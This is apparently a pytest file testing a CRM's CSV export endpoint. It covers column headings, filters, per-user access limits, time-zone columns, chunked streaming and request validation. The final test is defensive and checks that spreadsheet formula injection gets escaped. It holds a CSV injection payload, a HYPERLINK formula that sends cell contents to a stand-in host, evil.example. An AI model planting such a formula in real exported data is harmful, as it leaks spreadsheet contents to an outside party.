"""`POST /api/{resource}/export` (Concord's ExportController, dialects/concord/export.py): a resource's records as a
CSV file, with Concord 1.4.1's columns, header row, quoting, file name and content type; `period`,
`date_range_field`, `fields` and `filters` narrow it; the caller's ACL decides the rows."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from polycrm.dialects.concord import export
from tests.concord.conftest import JSON_HEADERS, Concord

CONTACT_HEADINGS = ["ID", "First Name", "Last Name", "E-Mail Address", "Phone", "Tags", "Owner", "Source",
                    "Total Companies", "Total Deals", "Total Documents", "Total Calls", "Job Name", "Street Address",
                    "City", "State/Region", "Postal Code", "Country", "Updated At (UTC)", "Updated At (UTC)",
                    "Created At (UTC)", "Created At (UTC)", "Companies"]
# Concord 1.4.1's own deal headings with the columns PolyCRM keeps nothing for left out (docs/concord-api.md).
DEAL_HEADINGS = ["ID", "Deal Name", "Pipeline", "Stage", "Amount", "Expected Close Date", "Tags", "Status",
                 "Lost Reason", "Owner", "Color", "Total Contacts", "Total Companies", "Total Documents", "Total Calls",
                 "Updated At (UTC)", "Updated At (UTC)", "Created At (UTC)", "Created At (UTC)", "Contacts",
                 "Companies"]


def rows_of(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def as_dicts(response: httpx.Response) -> list[dict[str, str]]:
    heading, *rows = rows_of(response)
    return [dict(zip(heading, row)) for row in rows]


def test_contacts_export_as_concord(concord: Concord) -> None:
    company = concord.create("companies", {"name": "Acme"})
    contact = concord.create("contacts", {"first_name": "Ann", "last_name": "Lee", "email": "ann@example.com",
                                          "phones": [{"number": "123", "type": "work"}, {"number": "456"}],
                                          "tags": ["VIP", "Partner"], "user_id": concord.user_id,
                                          "source_id": 1, "companies": [company["id"]], "country_id": 840,
                                          "job_title": "CEO", "city": "Oslo"})
    response = concord.post("contacts/export", {"type": "csv"})
    assert response.headers["content-type"] == "text/csv; charset=UTF-8"
    assert response.headers["content-disposition"] == "attachment; filename=contacts.csv"
    assert response.headers["x-app-version"] and response.headers["x-ratelimit-limit"]
    assert response.content.startswith(b'"ID","First Name"') and b"\r\n" not in response.content  # as Concord's
    heading, row = rows_of(response)
    assert heading == CONTACT_HEADINGS
    cells = dict(zip(heading, row))
    assert cells | {"Updated At (UTC)": "", "Created At (UTC)": ""} == {
        "ID": str(contact["id"]), "First Name": "Ann", "Last Name": "Lee", "E-Mail Address": "ann@example.com",
        "Phone": "123, 456", "Tags": "VIP, Partner", "Owner": "admin", "Source": "Organic search",
        "Total Companies": "1", "Total Deals": "0", "Total Documents": "0", "Total Calls": "0", "Job Name": "CEO",
        "Street Address": "", "City": "Oslo", "State/Region": "", "Postal Code": "", "Country": "United States",
        "Updated At (UTC)": "", "Created At (UTC)": "", "Companies": "Acme"}
    assert row[-2] == contact["created_at"].replace("T", " ")[:19]  # `2026-12-06 19:36:35`, as Concord


def test_deals_activities_and_products(concord: Concord) -> None:
    deal = concord.create("deals", {"name": "Big", "amount": 1234.5, "stage_id": 1, "user_id": concord.user_id,
                                    "expected_close_date": "2030-01-15", "tags": ["hot"]})
    response = concord.post("deals/export", {})
    assert rows_of(response)[0] == DEAL_HEADINGS
    [row] = as_dicts(response)
    assert {k: row[k] for k in ("ID", "Deal Name", "Pipeline", "Stage", "Amount", "Expected Close Date", "Tags",
                                "Status", "Owner")} == {
        "ID": str(deal["id"]), "Deal Name": "Big", "Pipeline": "Sales Pipeline", "Stage": "Qualified To Buy",
        "Amount": "USD1,234.50", "Expected Close Date": "2030-01-15 00:00:00", "Tags": "hot", "Status": "Open",
        "Owner": "admin"}
    concord.create("activities", {"title": "Call", "activity_type_id": 1, "due_date": "2030-01-15 09:30:00",
                                  "end_date": "2030-01-15 10:30:00", "user_id": concord.user_id,
                                  "reminder_minutes_before": 30, "deals": [deal["id"]]})
    concord.create("activities", {"title": "All day", "due_date": "2030-01-16", "user_id": concord.user_id})
    heading, *rows = rows_of(concord.post("activities/export", {"type": "csv"}))
    assert heading[:7] == ["Title", "Activity Type", "Due Date", "End Date", "Reminder", "Owner", "Description"]
    cells = [dict(zip(heading, row)) for row in rows]
    assert [(c["Title"], c["Due Date"], c["End Date"]) for c in cells] == [
        ("All day", "2030-01-16", "2030-01-16"), ("Call", "2030-01-15 09:30:00", "2030-01-15 10:30:00")]
    assert cells[1]["Reminder"] == "30" and cells[1]["Created By"] == "admin" and cells[1]["Activity Type"]
    concord.create("products", {"name": "Widget", "sku": "W1", "unit_price": 1500.5, "direct_cost": 3,
                                "tax_rate": 10, "tax_label": "VAT", "unit": "kg"})
    [product] = as_dicts(concord.post("products/export", {"type": "csv"}))
    assert list(product)[:9] == ["Name", "SKU", "Description", "Unit Price", "Direct Cost", "Tax Rate", "Tax Label",
                                 "Unit (kg, lots)", "Created By"]
    assert (product["Unit Price"], product["Direct Cost"], product["Tax Rate"], product["Unit (kg, lots)"]) == \
           ("USD1,500.50", "USD3.00", "10", "kg")


def test_fields_period_and_filters_narrow_the_export(concord: Concord) -> None:
    concord.create("deals", {"name": "Soon", "stage_id": 1, "expected_close_date": "2030-01-15"})
    concord.create("deals", {"name": "Later", "stage_id": 1, "expected_close_date": "2031-06-01", "amount": 5})
    picked = rows_of(concord.post("deals/export", {"fields": ["name", "status"]}))
    # the primary fields always come, in the resource's order (Concord's)
    assert picked[0] == ["Deal Name", "Pipeline", "Stage", "Amount", "Expected Close Date", "Status", "Owner"]
    assert [row[0] for row in picked[1:]] == ["Later", "Soon"]  # newest first (created_at desc), as Concord
    window = concord.post("deals/export", {"fields": [], "date_range_field": "expected_close_date",
                                           "period": {"start": "2030-01-01", "end": "2030-02-01"}})
    assert [row["Deal Name"] for row in as_dicts(window)] == ["Soon"]
    assert len(as_dicts(concord.post("deals/export", {"period": "today"}))) == 2
    assert as_dicts(concord.post("deals/export", {"period": "last_month"})) == []
    assert len(as_dicts(concord.post("deals/export", {"period": None}))) == 2
    future = concord.post("deals/export", {"period": "next_year", "date_range_field": "created_at"})
    assert as_dicts(future) == []  # a future preset is taken for the period (created_at's rule lacks it)
    filters = {"condition": "and", "children": [{"type": "rule", "query": {
        "type": "numeric", "rule": "amount", "operator": "greater", "value": 1}}]}
    assert [row["Deal Name"] for row in as_dicts(concord.post("deals/export", {"filters": filters}))] == ["Later"]


def test_a_limited_user_exports_only_what_they_may_read(concord: Concord) -> None:
    seller = concord.as_user("seller", {"Contact": {"create": "yes", "read": "own", "edit": "own", "delete": "no"}})
    concord.create("contacts", {"first_name": "Theirs", "user_id": seller.user_id})
    concord.create("contacts", {"first_name": "Not theirs"})
    assert [row["First Name"] for row in as_dicts(seller.post("contacts/export", {}))] == ["Theirs"]
    refused = seller.post("deals/export", {})
    assert refused.status_code == 403 and refused.json() == {"message": "This action is unauthorized."}


def test_the_caller_time_zone_gets_its_own_columns(concord: Concord) -> None:
    espo = concord.harness.key_client(concord.harness.admin_key, validate=False)
    assert espo.put(f"/api/v1/User/{concord.user_id}", json={"timeZone": "Asia/Tokyo"}).status_code == 200
    concord.create("products", {"name": "Widget", "unit_price": 1})
    heading, row = rows_of(concord.post("products/export", {}))
    assert heading[-4:] == ["Updated At (UTC)", "Updated At (Asia/Tokyo)", "Created At (UTC)",
                            "Created At (Asia/Tokyo)"]
    utc, tokyo = row[-2:]
    assert utc != tokyo and int(tokyo[11:13]) == (int(utc[11:13]) + 9) % 24


def test_large_exports_stream_in_chunks(concord: Concord, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK", 3)
    for number in range(8):
        concord.create("companies", {"name": f"Co {number}"})
    names = [row["Name"] for row in as_dicts(concord.post("companies/export", {}))]
    assert sorted(names) == [f"Co {n}" for n in range(8)] and len(names) == 8


def test_records_of_other_protocols_are_exported(concord: Concord) -> None:
    espo = concord.harness.key_client(concord.harness.admin_key, validate=False)
    made = espo.post("/api/v1/Account", json={"name": "From Espo", "billingAddressCity": "Rome"})
    assert made.status_code == 200, made.content
    [row] = as_dicts(concord.post("companies/export", {}))
    assert (row["ID"], row["Name"], row["City"]) == (str(made.json()["id"]), "From Espo", "Rome")


@pytest.mark.parametrize("body, key", [
    ({"type": "pdf"}, "type"), ({"type": "xlsx"}, "type"), ({"type": 5}, "type"),
    ({"period": "bogus"}, "period"), ({"period": 7}, "period"), ({"period": {"start": "2030-01-01"}}, "period"),
    ({"period": {"start": "x", "end": "y"}}, "period"),
    ({"date_range_field": "name"}, "date_range_field"), ({"date_range_field": ["created_at"]}, "date_range_field"),
    ({"fields": "name"}, "fields"), ({"fields": [1]}, "fields"),
    ({"filters": {"condition": "xor", "children": []}}, "filters.condition"),
    ({"filters": {"children": [{"type": "rule", "query": {"rule": "nosuch", "operator": "equal", "value": 1}}]}},
     "filters.children.0.query.rule"),
])
def test_bad_bodies_are_422(concord: Concord, body: dict[str, Any], key: str) -> None:
    response = concord.post("deals/export", body)
    assert response.status_code == 422, response.content
    assert list(response.json()["errors"]) == [key]


def test_malformed_oversized_and_other_bodies(concord: Concord) -> None:
    malformed = concord.http.post("/api/deals/export", content=b'{"type": ', headers=JSON_HEADERS)
    assert malformed.status_code == 422 and list(malformed.json()["errors"]) == ["body"]
    assert concord.post("deals/export", ["csv"]).status_code == 422
    huge = concord.http.post("/api/deals/export", content=b'{"type": "' + b"x" * 30_000_000 + b'"}',
                             headers=JSON_HEADERS)
    assert huge.status_code == 413
    empty = concord.http.post("/api/deals/export", headers=JSON_HEADERS)
    assert empty.status_code == 200 and empty.headers["content-disposition"] == "attachment; filename=deals.csv"
    unknown = concord.post("deals/export", {"bogus": 1})
    assert unknown.status_code == 200 and "bogus" in unknown.headers["X-PolyCRM-Warning"]


@pytest.mark.parametrize("path", ["calls/export", "notes/export", "pipelines/export", "nosuch/export"])
def test_resources_concord_does_not_export_are_404(concord: Concord, path: str) -> None:
    response = concord.post(path, {})
    assert (response.status_code, response.json()) == (404, {"message": ""})


def test_export_needs_a_token(concord: Concord) -> None:
    anonymous = concord.harness.client(validate=False)
    for headers in ({"Accept": "application/json"}, {"Accept": "application/json", "Authorization": "Bearer 1|no"}):
        response = anonymous.post("/api/contacts/export", json={}, headers=headers)
        assert (response.status_code, response.json()) == (401, {"message": "Unauthenticated."})
    assert concord.get("contacts/export").status_code == 404  # a record id there, as Laravel routes it


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(concord: Concord) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    companies = [concord.create("companies", {"name": name})["id"] for name in ("-2+3 Corp", "Acme")]
    concord.create("contacts", {"first_name": payload, "last_name": "@SUM(1)", "job_title": "CFO",
                                "companies": companies})
    [cells] = as_dicts(concord.post("contacts/export", {"type": "csv"}))
    assert (cells["First Name"], cells["Last Name"], cells["Job Name"]) == ("'" + payload, "'@SUM(1)", "CFO")
    assert cells["Companies"] == "'-2+3 Corp, Acme"  # the cell, not each name in it
    assert cells["Total Companies"] == "2"
